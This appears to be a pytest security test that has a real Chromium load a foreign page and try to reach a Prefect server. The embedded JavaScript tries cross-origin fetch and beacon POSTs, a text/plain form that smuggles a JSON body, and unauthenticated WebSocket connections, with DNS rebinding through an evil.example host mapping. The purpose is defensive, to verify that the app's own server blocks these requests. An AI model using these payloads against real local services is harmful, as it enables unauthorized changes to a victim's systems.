"""A page of somebody else, open in a real Chromium that is logged in to Prefect, tries to give Prefect commands."""

from __future__ import annotations

import functools
import http.server
import json
import subprocess
import sys
import threading
import urllib.error
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from tests.flows.prefect_runtime.prefect_server import (
    ServerAddress,
    get_csrf_headers,
    reserved_port,
    run_up_or_down,
    start_prefect_server,
    wait_until,
)
from tests.helpers import chromium
from tests.helpers.chromium import Browser, running_browser
from tests.helpers.cli_runs import bare_environment

pytestmark = [
    pytest.mark.proof,
    pytest.mark.skipif(chromium.PROGRAM is None, reason="Chromium is not installed: apt-get install chromium"),
]

ATTEMPTS = """
(async () => {
  const target = TARGET, flows = target + '/api/flows/', json = name => JSON.stringify({name: 'page-' + name});
  const seen = {};
  const attempt = async (name, action) => {
    try { seen[name] = await Promise.race([action(), new Promise(end => setTimeout(end, 8000, 'nothing'))]) }
    catch (error) { seen[name] = 'refused' }
  };
  const post = (name, more, body) => attempt(name, async () =>
    (await fetch(flows, {method: 'POST', body: body || json(name), ...more})).status);
  await attempt('read', async () => (await fetch(target + '/api/admin/version')).status);
  await post('json', {headers: {'Content-Type': 'application/json'}});
  await post('credentials', {headers: {'Content-Type': 'application/json'}, credentials: 'include'});
  await post('text', {mode: 'no-cors'});
  await post('untyped', {mode: 'no-cors'}, new Blob([json('untyped')]));
  await attempt('beacon', async () => navigator.sendBeacon(flows, new Blob([json('beacon')])) && 'sent');
  await attempt('form', () => new Promise(end => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    frame.name = 'answer';
    const form = document.body.appendChild(document.createElement('form'));
    Object.assign(form, {method: 'post', action: flows, target: 'answer', enctype: 'text/plain'});
    const field = form.appendChild(document.createElement('input'));
    field.name = '{"name": "page-form", "tags": ["'; field.value = '"]}';
    frame.onload = () => end('sent'); form.submit();
  }));
  const load = (tag, path) => () => new Promise((end, fail) => {
    const element = document.createElement(tag);
    element.onload = () => end('loaded'); element.onerror = fail; element.src = target + path;
    document.body.appendChild(element);
  });
  await attempt('script', load('script', '/api/openapi.json'));
  await attempt('image', load('img', '/api/static/prefect-logo-mark-gradient.png'));
  for (const path of ['events/in', 'events/out', 'logs/out'])
    await attempt(path, () => new Promise((end, fail) => {
      const socket = new WebSocket(target.replace('http', 'ws') + '/api/' + path, ['prefect']);
      socket.onopen = () => socket.send('{"type": "auth", "token": null}');
      socket.onmessage = message => end(message.data); socket.onclose = socket.onerror = fail;
    }));
  await new Promise(end => setTimeout(end, 1000));
  return seen;
})()
"""


@contextmanager
def foreign_site(folder: Path) -> Iterator[str]:
    """Serve a page on a port of its own; yield the port."""
    folder.mkdir()
    (folder / "index.html").write_text("<!doctype html><title>A page</title><body>Nothing to see</body>")
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(folder))
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield str(server.server_port)
        server.shutdown()


@contextmanager
def open_prefect_server(home: Path) -> Iterator[ServerAddress]:
    """Prefect's server as Prefect starts it."""
    with reserved_port() as port:
        command = [sys.executable, "-m", "prefect", "server", "start", "--port", port]
        process = subprocess.Popen(command, env=bare_environment(home), stdout=subprocess.DEVNULL)
        api = f"http://127.0.0.1:{port}/api"
        try:
            wait_until(lambda: answers(f"{api}/health"), "Prefect's server", 180)
            yield ServerAddress(api, "")
        finally:
            process.terminate()
            process.wait(timeout=60)


@contextmanager
def up_server(home: Path) -> Iterator[ServerAddress]:
    """The server of ``mediamill up``."""
    yield start_prefect_server(home)
    run_up_or_down(home, "down")


def answers(url: str) -> bool:
    try:
        with urllib.request.urlopen(url, timeout=5):
            return True
    except (urllib.error.URLError, OSError):
        return False


def read_flow_names(address: ServerAddress) -> set[str]:
    """The names of all flows that the server knows."""
    headers = {"Content-Type": "application/json"}
    if address.password:
        headers |= address.authorization | get_csrf_headers(address)
    request = urllib.request.Request(f"{address.api}/flows/filter", b"{}", headers)
    with urllib.request.urlopen(request, timeout=30) as reply:
        return {flow["name"] for flow in json.load(reply)}


def try_everything(browser: Browser, page: str, target: str) -> dict[str, Any]:
    """Open a page, and have it try everything against the target; return what it saw."""
    browser.open(page)
    wait_until(lambda: browser.run("location.href + document.readyState") == f"{page}complete", "the page")
    seen: dict[str, Any] = browser.run(ATTEMPTS.replace("TARGET", json.dumps(target)))
    return seen


def test_a_foreign_page_reaches_prefects_own_server(tmp_path: Path) -> None:
    with open_prefect_server(tmp_path / "home") as server, foreign_site(tmp_path / "site") as port:
        with running_browser(tmp_path / "profile") as browser:
            seen = try_everything(browser, f"http://127.0.0.1:{port}/", server.api.removesuffix("/api"))
        assert seen["json"] == 201
        assert {"page-json", "page-untyped"} <= read_flow_names(server)
        assert "auth_success" in seen["events/in"]


def test_a_foreign_page_does_not_reach_the_server_of_up(tmp_path: Path) -> None:
    rules = "--host-resolver-rules=MAP evil.example 127.0.0.1"
    home = tmp_path / "home"
    with up_server(home) as server, foreign_site(tmp_path / "site") as port:
        origin = server.api.removesuffix("/api")
        rebound = f"http://evil.example:{origin.rpartition(':')[2]}"
        with running_browser(tmp_path / "profile", rules) as browser:
            log_in(browser, home, origin)
            for page in (f"http://127.0.0.1:{port}/", f"http://localhost:{port}/", f"http://evil.example:{port}/"):
                for target in (origin, rebound):
                    seen = try_everything(browser, page, target)
                    opened = {
                        name: value for name, value in seen.items() if value not in ("refused", "nothing", "sent")
                    }
                    assert opened == {"text": 0, "untyped": 0}, (page, target)  # sent, and the answer is hidden
            seen = try_everything(browser, f"{rebound}/", rebound)
            assert {seen[name] for name in ("read", "json", "credentials")} == {403}
            assert {seen[name] for name in ("events/in", "events/out", "logs/out", "script", "image")} == {"refused"}
            browser.open(f"{origin}/")
            wait_until(lambda: "dashboard" in browser.run("location.href"), "the page that is still logged in")
        assert not {name for name in read_flow_names(server) if name.startswith("page-")}


def log_in(browser: Browser, home: Path, origin: str) -> None:
    """Open the page of ``up --open``; its user's browser sees Prefect, and can change it."""
    done = run_up_or_down(home, "up", "--open", env={"BROWSER": "true"})
    assert done.returncode == 0, done.stderr
    browser.open((home / ".local/state/mediamill/open-prefect.html").as_uri())
    wait_until(lambda: browser.run("location.href").startswith(f"{origin}/v2/dashboard"), "the dashboard")
    wait_until(lambda: "Run a task or flow" in browser.run("document.body.innerText"), "the dashboard's words")
